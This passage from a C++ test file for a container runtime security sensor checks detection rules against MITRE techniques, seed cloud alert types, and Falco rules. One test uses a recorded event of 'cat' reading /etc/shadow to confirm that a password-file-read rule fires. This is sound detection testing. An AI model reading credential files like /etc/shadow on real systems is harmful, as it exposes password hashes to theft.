        mitre_techniques.insert(technique);
        ASSERT_TRUE(techniques.count(technique)) << technique << " is not in the containers matrix";
        EXPECT_NE(techniques[technique].find(tactic), std::string::npos)
            << technique << " is not a technique of " << tactic;
      }
    }
    EXPECT_EQ(tag_techniques, mitre_techniques) << "tags and mitre name different techniques";
  }
  EXPECT_GE(rules, 45u);
  // Every seed K8S.NODE_ alert and every container-host alert type is some rule's tag, except
  // the ones docs/sensor.md explains.
  auto k8s = ParseCsv(ReadAll(kShared + "/seed/mdc_alerts_k8s_cluster_2022_2024.csv"));
  size_t node_types = 0;
  for (const auto& row : k8s) {
    if (row.size() < 2 || row[1].rfind("K8S.NODE_", 0) != 0) continue;
    ++node_types;
    EXPECT_TRUE(covered.count(row[1]) || kNotObservable.count(row[1])) << row[1];
  }
  EXPECT_EQ(node_types, 46u);
  auto host = ParseCsv(ReadAll(kShared + "/seed/mdc_alerts_container_host_linux_vm.csv"));
  for (const auto& row : host) {
    if (row.empty() || row[0].rfind("VM_", 0) != 0) continue;
    EXPECT_TRUE(covered.count(row[0])) << row[0];
  }
}

TEST(NodeRulesTest, DocsMapEverySeedAlert) {
  const std::string docs = ReadAll(kSource + "/docs/sensor.md");
  auto k8s = ParseCsv(ReadAll(kShared + "/seed/mdc_alerts_k8s_cluster_2022_2024.csv"));
  auto host = ParseCsv(ReadAll(kShared + "/seed/mdc_alerts_container_host_linux_vm.csv"));
  for (const auto& row : k8s) {
    if (row.size() > 1 && row[1].rfind("K8S.NODE_", 0) == 0) {
      EXPECT_NE(docs.find("`" + row[1] + "`"), std::string::npos) << row[1];
    }
  }
  for (const auto& row : host) {
    if (row.size() > 1 && row[0].rfind("VM_", 0) == 0) {
      EXPECT_NE(docs.find("`" + row[0] + "`"), std::string::npos) << row[0];
    } else if (row.size() > 1 && row[0].empty() && !row[1].empty()) {
      EXPECT_NE(docs.find(row[1]), std::string::npos) << row[1];  // the 2020 names
    }
  }
}

// Falco's own rules load next to the built-ins as a compatibility input: rules of fields the
// sensor lacks are disabled and say which field, the others compile and run.
TEST(NodeRulesTest, FalcoRulesLoadNextToTheBuiltins) {
  DetectorOptions options;
  options.rule_paths = {kShared + "/runtime/falco-rules/falco_rules.yaml"};
  rules::LoadReport report;
  auto detector = Detector::Create(options, nullptr, &report);
  ASSERT_TRUE(detector.ok()) << detector.error().message;
  size_t missing_field = 0;
  for (const rules::DisabledRule& rule : report.disabled) {
    if (!rule.missing_fields.empty()) {
      ++missing_field;
      EXPECT_NE(rule.reason.find(rule.missing_fields.front()), std::string::npos) << rule.reason;
    }
  }
  EXPECT_GE(report.enabled.size(), 60u);  // the built-ins and most of Falco's stable rules
  // Falco's "Read sensitive file untrusted" fires with the built-in on the same recorded event.
  auto alerts = (*detector)->Evaluate(Open("cat", "/etc/shadow", "O_RDONLY"));
  auto names = RuleNames(alerts);
  EXPECT_NE(std::find(names.begin(), names.end(), "Moat Password File Read"), names.end());
  std::cout << "falco_rules.yaml + built-ins: " << report.enabled.size() << " enabled, "
            << report.disabled.size() << " disabled (" << missing_field
            << " for fields the sensor lacks)\n";
}

}  // namespace
}  // namespace moat::sensor
